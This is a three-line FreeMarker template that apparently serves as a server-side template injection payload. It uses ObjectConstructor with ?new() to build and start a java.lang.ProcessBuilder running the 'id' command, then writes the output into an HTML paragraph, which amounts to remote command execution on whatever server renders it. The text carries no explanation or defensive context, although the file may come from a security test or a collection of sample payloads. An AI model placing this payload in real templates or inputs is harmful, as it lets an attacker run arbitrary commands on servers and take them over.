<#ftl output_format="HTML">
<#assign make = "freemarker.template.utility.ObjectConstructor"?new()>
<p>${make("java.lang.ProcessBuilder", "id").start()}</p>
